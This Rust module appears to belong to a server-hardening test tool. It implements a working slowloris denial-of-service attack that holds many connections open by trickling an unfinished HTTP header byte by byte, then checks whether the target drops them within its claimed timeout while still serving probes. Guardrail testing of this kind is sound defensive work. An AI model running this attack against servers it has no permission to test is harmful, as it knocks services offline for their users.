//! `slowloris`: many connections that send a valid request head one byte at a time and never
//! finish it. A guarded server drops them once its header timeout passes (nginx
//! `client_header_timeout`, hyper `header_read_timeout`); meanwhile a separate probe on fresh
//! connections checks that ordinary clients are still served.
//!
//! Passed = at least [`DROP_QUORUM`] of the slow connections were dropped (closed, reset or
//! answered, typically 408/400) within the claimed `request_timeout` + grace, while the probe
//! was still served. Failed = slow connections outlived that deadline, or the probe starved.
//! Inconclusive = most slow connections could not even be opened.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use rand::Rng;
use shakedown_core::result::{AttackOutcome, Sample, Verdict};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::{Notify, Semaphore};
use tokio::task::JoinSet;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;

use crate::context::AttackContext;
use crate::evidence::{Recorder, excerpt};
use crate::execute;
use crate::http::{self, HttpRequest, Outcome};
use crate::input;
use crate::load::fd_limit::{self, FdBudget};

/// Share of opened slow connections the server must drop in time for a pass.
pub const DROP_QUORUM: f64 = 0.95;
/// Gap between two probe requests.
pub const PROBE_INTERVAL: Duration = Duration::from_secs(1);
/// Connects in flight at once, so a burst of SYNs does not overflow the listen backlog.
const CONNECT_PARALLELISM: usize = 64;
/// Bounds on the mean gap between two trickled bytes of one connection (each gap is
/// jittered ±50%). Short enough that a per-read idle timeout never fires: only a deadline on
/// the whole head stops a slowloris.
const MIN_BYTE_INTERVAL: Duration = Duration::from_millis(100);
const MAX_BYTE_INTERVAL: Duration = Duration::from_millis(500);
/// Our own cap on connect and probe deadlines.
const MAX_OWN_TIMEOUT: Duration = Duration::from_secs(5);
/// How long we wait for the connection tasks to wind down after the attack.
const COLLECT_TIMEOUT: Duration = Duration::from_secs(2);

/// Runs the attack; see the module docs for the verdict rules.
pub async fn run(ctx: &AttackContext) -> AttackOutcome {
    let plan = Plan::new(ctx);
    if plan.budget.granted == 0 {
        return execute::inconclusive(format!(
            "no file descriptors left for slow connections (soft limit {}, {} open)",
            plan.budget.soft_limit, plan.budget.open_now
        ));
    }
    let observed = attack(ctx, &plan).await;
    if ctx.halt.is_cancelled() {
        return execute::halted();
    }
    judge(&plan, observed)
}

/// Everything fixed before the first packet.
struct Plan {
    budget: FdBudget,
    /// The claimed `request_timeout` guardrail.
    claimed: Duration,
    grace: Duration,
    max_duration: Duration,
    byte_interval: Duration,
    connect_timeout: Duration,
    probe_timeout: Duration,
    head: Arc<[u8]>,
    /// Path of the slow request, for evidence.
    path: String,
    probe: HttpRequest,
}

impl Plan {
    fn new(ctx: &AttackContext) -> Plan {
        let claimed = ctx.component.guardrails.request_timeout().as_duration();
        let grace = ctx.limits.slowloris_grace;
        let max_duration = ctx.limits.max_attack_duration;
        let byte_interval = (claimed / 10).clamp(MIN_BYTE_INTERVAL, MAX_BYTE_INTERVAL);
        // Enough bytes for the longest window at the fastest jittered pace; a server that
        // caps header size answers 431/400 first, which counts as a drop.
        let window = (claimed + grace).min(max_duration);
        let needed = (window.as_millis() / (byte_interval.as_millis() / 2).max(1)) as usize + 1;
        let path = ctx.target.path(ctx.component.health_path());
        Plan {
            budget: fd_limit::budget(ctx.limits.slowloris_connections),
            claimed,
            grace,
            max_duration,
            byte_interval,
            connect_timeout: ctx.limits.request_timeout.min(MAX_OWN_TIMEOUT),
            probe_timeout: ctx.limits.request_timeout.min(MAX_OWN_TIMEOUT),
            head: slow_head(&path, &ctx.target.authority, needed).into(),
            path,
            probe: input::get(ctx, ctx.component.health_path()),
        }
    }

    fn connections(&self) -> usize {
        self.budget.granted
    }
}

/// A request head of at least `len` bytes that never ends: a request line, `Host`, then
/// `X-a-N: b` header lines, and never the blank line that would complete it.
pub fn slow_head(path: &str, authority: &str, len: usize) -> Vec<u8> {
    let mut head = format!(
        "GET {path} HTTP/1.1\r\nHost: {authority}\r\nUser-Agent: shakedown-slowloris/{}\r\n\
         Accept: */*\r\n",
        env!("CARGO_PKG_VERSION")
    )
    .into_bytes();
    let mut k = 0u64;
    while head.len() < len {
        head.extend_from_slice(format!("X-a-{k}: b\r\n").as_bytes());
        k += 1;
    }
    head
}

/// Progress shared between the connection tasks and the probe loop.
#[derive(Default)]
struct Progress {
    /// Connect attempts finished, successful or not.
    attempted: AtomicUsize,
    /// Slow connections currently open.
    open: AtomicUsize,
    /// Connections that ended: never opened, or dropped by the server.
    resolved: AtomicUsize,
    /// Signalled on every change; a single waiter (the probe loop) consumes it.
    changed: Notify,
}

impl Progress {
    fn bump(&self, counter: &AtomicUsize) {
        counter.fetch_add(1, Ordering::SeqCst);
        self.changed.notify_one();
    }
}

/// How a slow connection ended.
#[derive(Debug, Clone)]
enum End {
    NeverOpened(String),
    /// The server closed, reset or answered; `after` counts from the connect.
    Dropped {
        after: Duration,
        how: Cause,
    },
    /// Still open when the attack stopped.
    StillOpen {
        after: Duration,
    },
}

#[derive(Debug, Clone)]
enum Cause {
    /// The server answered (first line kept), e.g. `HTTP/1.1 408 Request Time-out`.
    Answered {
        status: Option<u16>,
        line: String,
    },
    Closed,
    Reset(String),
    WriteFailed(String),
}

impl Cause {
    fn label(&self) -> String {
        match self {
            Cause::Answered {
                status: Some(s), ..
            } => s.to_string(),
            Cause::Answered { status: None, .. } => "answered".into(),
            Cause::Closed => "closed".into(),
            Cause::Reset(_) => "reset".into(),
            Cause::WriteFailed(_) => "write_failed".into(),
        }
    }
    fn describe(&self) -> String {
        match self {
            Cause::Answered { line, .. } => format!("server answered `{line}`"),
            Cause::Closed => "server closed the connection".into(),
            Cause::Reset(e) => format!("connection reset ({e})"),
            Cause::WriteFailed(e) => format!("write failed ({e})"),
        }
    }
}

struct SlowConn {
    index: usize,
    end: End,
    bytes_sent: u64,
}

struct Probe {
    outcome: Outcome,
    /// Slow connections open when the probe was sent.
    open_at_send: usize,
}

/// What the attack saw.
struct Observed {
    conns: Vec<SlowConn>,
    probes: Vec<Probe>,
    /// Whether `max_attack_duration` cut the window below `claimed + grace`.
    capped: bool,
    /// How long the slow connections were watched.
    watched: Duration,
}

async fn attack(ctx: &AttackContext, plan: &Plan) -> Observed {
    let started = Instant::now();
    let n = plan.connections();
    // A child token: cancelled by a halt, and by us when the attack ends. The guard also
    // cancels it if this future is dropped; the JoinSet then aborts every task, so every
    // socket is closed on every path.
    let stop = ctx.halt.child_token();
    let _stop_on_drop = stop.clone().drop_guard();
    let progress = Arc::new(Progress::default());
    let trickle = Arc::new(Trickle {
        addr: ctx.target.addr,
        head: plan.head.clone(),
        interval: plan.byte_interval,
        connect_timeout: plan.connect_timeout,
        gate: Semaphore::new(CONNECT_PARALLELISM),
        stop: stop.clone(),
        progress: progress.clone(),
    });
    let mut tasks = JoinSet::new();
    for index in 0..n {
        tasks.spawn(slow_connection(index, trickle.clone()));
    }

    // Phase 1: every connect attempt finishes (bounded by the connect timeout per batch).
    let batches = n.div_ceil(CONNECT_PARALLELISM) as u32;
    let connect_limit =
        started + (plan.connect_timeout * batches + Duration::from_secs(1)).min(plan.max_duration);
    wait_for(&progress, &stop, connect_limit, || {
        progress.attempted.load(Ordering::SeqCst) >= n
    })
    .await;

    // Phase 2: probe while the slow connections trickle, until the claimed deadline.
    let attack_start = Instant::now();
    let full_deadline = attack_start + plan.claimed + plan.grace;
    let deadline = full_deadline.min(started + plan.max_duration);
    let opened = progress.open.load(Ordering::SeqCst);
    let mut probes = Vec::new();
    // Probing only makes sense when the slow connections are in place.
    if opened * 2 >= n {
        probes = probe_loop(ctx, plan, &progress, &stop, deadline, n).await;
    }
    let watched = attack_start.elapsed();

    // Phase 3: stop every connection and collect what each saw.
    stop.cancel();
    let mut conns = Vec::with_capacity(n);
    let _ = tokio::time::timeout(COLLECT_TIMEOUT, async {
        while let Some(joined) = tasks.join_next().await {
            if let Ok(conn) = joined {
                conns.push(conn);
            }
        }
    })
    .await;
    tasks.shutdown().await;
    conns.sort_by_key(|c| c.index);
    Observed {
        conns,
        probes,
        capped: deadline < full_deadline,
        watched,
    }
}

/// Waits until `done()` holds, `limit` passes or `stop` fires.
async fn wait_for(
    progress: &Progress,
    stop: &CancellationToken,
    limit: Instant,
    done: impl Fn() -> bool,
) {
    while !done() && Instant::now() < limit && !stop.is_cancelled() {
        tokio::select! {
            _ = progress.changed.notified() => {}
            _ = tokio::time::sleep_until(limit) => {}
            _ = stop.cancelled() => {}
        }
    }
}

/// One probe per [`PROBE_INTERVAL`] until `deadline`; once every slow connection has ended,
/// one more probe and stop.
async fn probe_loop(
    ctx: &AttackContext,
    plan: &Plan,
    progress: &Progress,
    stop: &CancellationToken,
    deadline: Instant,
    n: usize,
) -> Vec<Probe> {
    let mut probes = Vec::new();
    let mut next_probe = Instant::now();
    let mut probes_after_all_ended: Option<usize> = None;
    // Bounded by the deadline; the count bound is a second guard.
    let max_probes =
        (deadline.saturating_duration_since(Instant::now()).as_secs() + 3) as usize * 2;
    while !stop.is_cancelled() && Instant::now() < deadline && probes.len() < max_probes {
        if probes_after_all_ended.is_none() && progress.resolved.load(Ordering::SeqCst) >= n {
            probes_after_all_ended = Some(0);
            next_probe = Instant::now();
        }
        if probes_after_all_ended.is_some_and(|k| k >= 1) {
            break;
        }
        if Instant::now() >= next_probe {
            let sent = Instant::now();
            let open_at_send = progress.open.load(Ordering::SeqCst);
            let outcome = tokio::select! {
                o = http::send(&ctx.target, &plan.probe, plan.probe_timeout) => o,
                _ = stop.cancelled() => break,
            };
            probes.push(Probe {
                outcome,
                open_at_send,
            });
            if let Some(k) = probes_after_all_ended.as_mut() {
                *k += 1;
            }
            next_probe = sent + PROBE_INTERVAL;
            continue;
        }
        tokio::select! {
            _ = tokio::time::sleep_until(next_probe.min(deadline)) => {}
            _ = progress.changed.notified() => {}
            _ = stop.cancelled() => {}
        }
    }
    probes
}

/// The gap before the next byte: the mean interval ±50%, so connections do not move in
/// lockstep.
fn jittered(mean: Duration) -> Duration {
    let factor: f64 = rand::rng().random_range(0.5..1.5);
    mean.mul_f64(factor)
}

/// What every slow connection shares.
struct Trickle {
    addr: std::net::SocketAddr,
    head: Arc<[u8]>,
    /// Mean gap between two bytes.
    interval: Duration,
    connect_timeout: Duration,
    /// Limits connects in flight to [`CONNECT_PARALLELISM`].
    gate: Semaphore,
    stop: CancellationToken,
    progress: Arc<Progress>,
}

async fn slow_connection(index: usize, t: Arc<Trickle>) -> SlowConn {
    let Trickle {
        addr,
        head,
        interval,
        connect_timeout,
        gate,
        stop,
        progress,
    } = &*t;
    let (addr, interval, connect_timeout) = (*addr, *interval, *connect_timeout);
    let never = |why: String| {
        progress.bump(&progress.attempted);
        progress.bump(&progress.resolved);
        SlowConn {
            index,
            end: End::NeverOpened(why),
            bytes_sent: 0,
        }
    };
    let connected = tokio::select! {
        c = async {
            let _permit = gate.acquire().await;
            tokio::time::timeout(connect_timeout, TcpStream::connect(addr)).await
        } => c,
        _ = stop.cancelled() => return never("stopped before connecting".into()),
    };
    let mut stream = match connected {
        Ok(Ok(s)) => s,
        Ok(Err(e)) => return never(e.to_string()),
        Err(_) => return never(format!("connect timed out after {connect_timeout:?}")),
    };
    let opened = Instant::now();
    progress.bump(&progress.open);
    progress.bump(&progress.attempted);
    // One byte per segment: Nagle would batch our trickle.
    let _ = stream.set_nodelay(true);

    let (mut rd, mut wr) = stream.split();
    let mut buf = [0u8; 512];
    let mut sent = 0usize;
    // Random first offset so the connections' bytes are spread over the interval.
    let mut next = Instant::now() + jittered(interval / 2);
    let how = loop {
        tokio::select! {
            _ = stop.cancelled() => {
                return SlowConn { index, end: End::StillOpen { after: opened.elapsed() }, bytes_sent: sent as u64 };
            }
            r = rd.read(&mut buf) => break match r {
                Ok(0) => Cause::Closed,
                Ok(n) => answered(&buf[..n]),
                Err(e) => Cause::Reset(e.to_string()),
            },
            _ = tokio::time::sleep_until(next) => {
                if sent < head.len() {
                    let written = tokio::select! {
                        w = wr.write_all(&head[sent..sent + 1]) => w,
                        _ = stop.cancelled() => continue,
                    };
                    if let Err(e) = written {
                        break Cause::WriteFailed(e.to_string());
                    }
                    sent += 1;
                }
                next = Instant::now() + jittered(interval);
            }
        }
    };
    let after = opened.elapsed();
    progress.open.fetch_sub(1, Ordering::SeqCst);
    progress.bump(&progress.resolved);
    SlowConn {
        index,
        end: End::Dropped { after, how },
        bytes_sent: sent as u64,
    }
}

/// Reads the status out of the first bytes the server sent, e.g. `HTTP/1.1 408 ...`.
fn answered(bytes: &[u8]) -> Cause {
    let text = String::from_utf8_lossy(bytes);
    let line = text.lines().next().unwrap_or_default().to_string();
    let status = line
        .strip_prefix("HTTP/")
        .and_then(|rest| rest.split_whitespace().nth(1))
        .and_then(|code| code.parse().ok());
    Cause::Answered {
        status,
        line: excerpt(&line, 120),
    }
}

fn ms(d: Duration) -> f64 {
    (d.as_secs_f64() * 1000.0 * 10.0).round() / 10.0
}

/// Nearest-rank percentile of sorted values.
fn percentile(sorted: &[Duration], q: f64) -> Duration {
    let rank = ((q * sorted.len() as f64).ceil() as usize).clamp(1, sorted.len());
    sorted[rank - 1]
}

fn served(o: &Outcome) -> bool {
    o.status().is_some_and(|s| (200..400).contains(&s))
}

fn judge(plan: &Plan, seen: Observed) -> AttackOutcome {
    let mut rec = Recorder::new();
    let wanted = plan.budget.wanted;
    let planned = plan.connections();
    let limit = plan.claimed + plan.grace;
    if let Some(note) = plan.budget.note() {
        rec.finding(note);
    }

    let mut opened = 0usize;
    let mut connect_errors = Vec::new();
    let mut in_time = Vec::new();
    let mut late = 0usize;
    let mut still_open = 0usize;
    let mut bytes = 0u64;
    let mut dropped_sampled = false;
    let mut open_sampled = false;
    for c in &seen.conns {
        bytes += c.bytes_sent;
        let describe = format!(
            "slowloris connection #{}: GET {}, 1 byte every ~{} ms",
            c.index,
            plan.path,
            plan.byte_interval.as_millis()
        );
        match &c.end {
            End::NeverOpened(e) => {
                rec.record_label("slow: connect_error", None);
                connect_errors.push(e.clone());
            }
            End::Dropped { after, how } => {
                opened += 1;
                rec.record_label(&format!("slow: {}", how.label()), None);
                if *after <= limit {
                    in_time.push(*after);
                } else {
                    late += 1;
                }
                if !dropped_sampled {
                    dropped_sampled = true;
                    rec.sample_raw(Sample {
                        request: describe,
                        status: match how {
                            Cause::Answered { status, .. } => *status,
                            _ => None,
                        },
                        outcome: format!("dropped: {}", how.describe()),
                        latency_ms: ms(*after),
                        excerpt: format!("{} bytes of the head sent", c.bytes_sent),
                    });
                }
            }
            End::StillOpen { after } => {
                opened += 1;
                still_open += 1;
                rec.record_label("slow: still_open", None);
                if !open_sampled {
                    open_sampled = true;
                    rec.sample_raw(Sample {
                        request: describe,
                        status: None,
                        outcome: "still open when the attack stopped".into(),
                        latency_ms: ms(*after),
                        excerpt: format!("{} bytes of the head sent", c.bytes_sent),
                    });
                }
            }
        }
    }
    in_time.sort();

    let mut probes_ok = 0usize;
    let mut while_open = 0usize;
    let mut ok_while_open = 0usize;
    let mut failed_sampled = false;
    let mut ok_sampled = false;
    for p in &seen.probes {
        let latency = match &p.outcome {
            Outcome::Response(r) => Some(r.latency),
            Outcome::Timeout(d) => Some(*d),
            _ => None,
        };
        rec.record_label(&format!("probe: {}", p.outcome.label()), latency);
        let ok = served(&p.outcome);
        probes_ok += ok as usize;
        if p.open_at_send > 0 {
            while_open += 1;
            ok_while_open += ok as usize;
        }
        let label = format!(
            "probe {} ({} slow connections open)",
            plan.probe.describe(),
            p.open_at_send
        );
        if (ok && !ok_sampled) || (!ok && !failed_sampled) {
            rec.sample_described(label, &p.outcome);
            ok_sampled |= ok;
            failed_sampled |= !ok;
        }
    }
    let probes = seen.probes.len();

    rec.metric("connections_wanted", wanted);
    rec.metric("connections_planned", planned);
    rec.metric("connections_opened", opened);
    rec.metric("connect_errors", connect_errors.len());
    rec.metric("dropped", in_time.len());
    rec.metric("dropped_late", late);
    rec.metric("still_open", still_open);
    if !in_time.is_empty() {
        rec.metric("drop_ms_p50", ms(percentile(&in_time, 0.50)));
        rec.metric("drop_ms_p90", ms(percentile(&in_time, 0.90)));
        rec.metric("drop_ms_max", ms(percentile(&in_time, 1.0)));
    }
    rec.metric("probes_sent", probes);
    rec.metric("probes_ok", probes_ok);
    rec.metric("probes_failed", probes - probes_ok);
    rec.metric("probes_while_open", while_open);
    rec.metric("probes_ok_while_open", ok_while_open);
    rec.metric("bytes_trickled", bytes);
    rec.metric("byte_interval_ms", plan.byte_interval.as_millis() as u64);
    rec.metric("deadline_ms", limit.as_millis() as u64);
    rec.metric("watched_ms", seen.watched.as_millis() as u64);
    rec.metric("deadline_capped", seen.capped);
    rec.metric("fd_soft_limit", plan.budget.soft_limit);

    let triggered = !in_time.is_empty();
    let outcome = |verdict, summary: String, rec: Recorder| AttackOutcome {
        verdict,
        summary,
        guardrail_triggered: triggered,
        evidence: rec.finish(),
    };

    if opened == 0 || opened * 2 < planned {
        let first = connect_errors
            .first()
            .cloned()
            .unwrap_or_else(|| "no error recorded".into());
        let summary =
            format!("only {opened} of {planned} slow connections could be opened ({first})");
        rec.finding(format!(
            "{summary}: the target refused the attack from the start, so nothing was verified"
        ));
        return outcome(Verdict::Inconclusive, summary, rec);
    }

    let not_dropped = opened - in_time.len();
    let drops_ok = in_time.len() as f64 >= DROP_QUORUM * opened as f64;
    let starved = probes == 0
        || probes_ok == 0
        || probes_ok * 2 < probes
        || (while_open > 0 && ok_while_open == 0);

    let mut failures = Vec::new();
    if !drops_ok {
        let mut f = format!(
            "{not_dropped} of {opened} slow connections still open after {} (claimed request_timeout {} + grace {})",
            human(limit),
            human(plan.claimed),
            human(plan.grace)
        );
        if late > 0 {
            f.push_str(&format!("; {late} were dropped only after that deadline"));
        }
        if seen.capped {
            f.push_str(&format!(
                ", but max_attack_duration ({}) cut the window to {}",
                human(plan.max_duration),
                human(seen.watched)
            ));
        }
        rec.finding(f.clone());
        failures.push(f);
    } else {
        rec.finding(format!(
            "{} of {opened} slow connections dropped within {} (p50 {} ms, max {} ms)",
            in_time.len(),
            human(limit),
            ms(percentile(&in_time, 0.5)),
            ms(percentile(&in_time, 1.0))
        ));
    }
    if starved {
        let f = if probes == 0 {
            "no probe could be sent while under slowloris".to_string()
        } else {
            format!(
                "server unavailable while under slowloris: {probes_ok} of {probes} probes served \
                 ({ok_while_open} of {while_open} while slow connections were open)"
            )
        };
        rec.finding(f.clone());
        failures.push(f);
    } else {
        rec.finding(format!(
            "{probes_ok} of {probes} probes served while under slowloris ({ok_while_open} of {while_open} \
             while slow connections were open)"
        ));
    }

    if failures.is_empty() {
        let summary = format!(
            "{} of {opened} slow connections dropped in time; {probes_ok}/{probes} probes served",
            in_time.len()
        );
        return outcome(Verdict::Passed, summary, rec);
    }
    // Connections outliving a window cut short by max_attack_duration prove nothing on their
    // own: the server may still honour its longer claim.
    if seen.capped && !starved {
        rec.finding(
            "window shorter than the claimed timeout: raise max_attack_duration to verify"
                .to_string(),
        );
        return outcome(Verdict::Inconclusive, failures.join("; "), rec);
    }
    outcome(Verdict::Failed, failures.join("; "), rec)
}

fn human(d: Duration) -> String {
    if d.subsec_millis() == 0 {
        format!("{}s", d.as_secs())
    } else {
        format!("{}ms", d.as_millis())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn head_never_completes() {
        let head = slow_head("/health", "127.0.0.1:8080", 500);
        assert!(head.len() >= 500);
        assert!(head.starts_with(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1:8080\r\n"));
        assert!(!head.windows(4).any(|w| w == b"\r\n\r\n"));
        assert!(head.ends_with(b"\r\n"));
    }

    #[test]
    fn answers_are_parsed() {
        match answered(b"HTTP/1.1 408 Request Time-out\r\nServer: nginx\r\n") {
            Cause::Answered { status, line } => {
                assert_eq!(status, Some(408));
                assert_eq!(line, "HTTP/1.1 408 Request Time-out");
            }
            other => panic!("unexpected {other:?}"),
        }
        assert!(matches!(
            answered(b"garbage"),
            Cause::Answered { status: None, .. }
        ));
    }

    #[test]
    fn percentiles_use_nearest_rank() {
        let v: Vec<Duration> = (1..=10).map(Duration::from_millis).collect();
        assert_eq!(percentile(&v, 0.5), Duration::from_millis(5));
        assert_eq!(percentile(&v, 0.9), Duration::from_millis(9));
        assert_eq!(percentile(&v, 1.0), Duration::from_millis(10));
    }
}
